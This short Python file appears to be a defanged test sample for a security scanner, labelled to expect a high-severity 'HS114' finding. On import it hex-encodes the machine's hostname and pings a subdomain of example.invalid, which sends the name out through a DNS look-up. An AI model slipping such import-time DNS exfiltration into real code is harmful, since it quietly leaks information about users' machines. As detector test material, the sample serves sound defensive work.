# The hostname hex-encoded into a DNS look-up through ping, at import time.
# Defanged: example.invalid.
import os
import platform

label = platform.node().encode().hex()[:60]
os.system("ping -c 1 %s.x.example.invalid" % label)  # expect: HS114 high
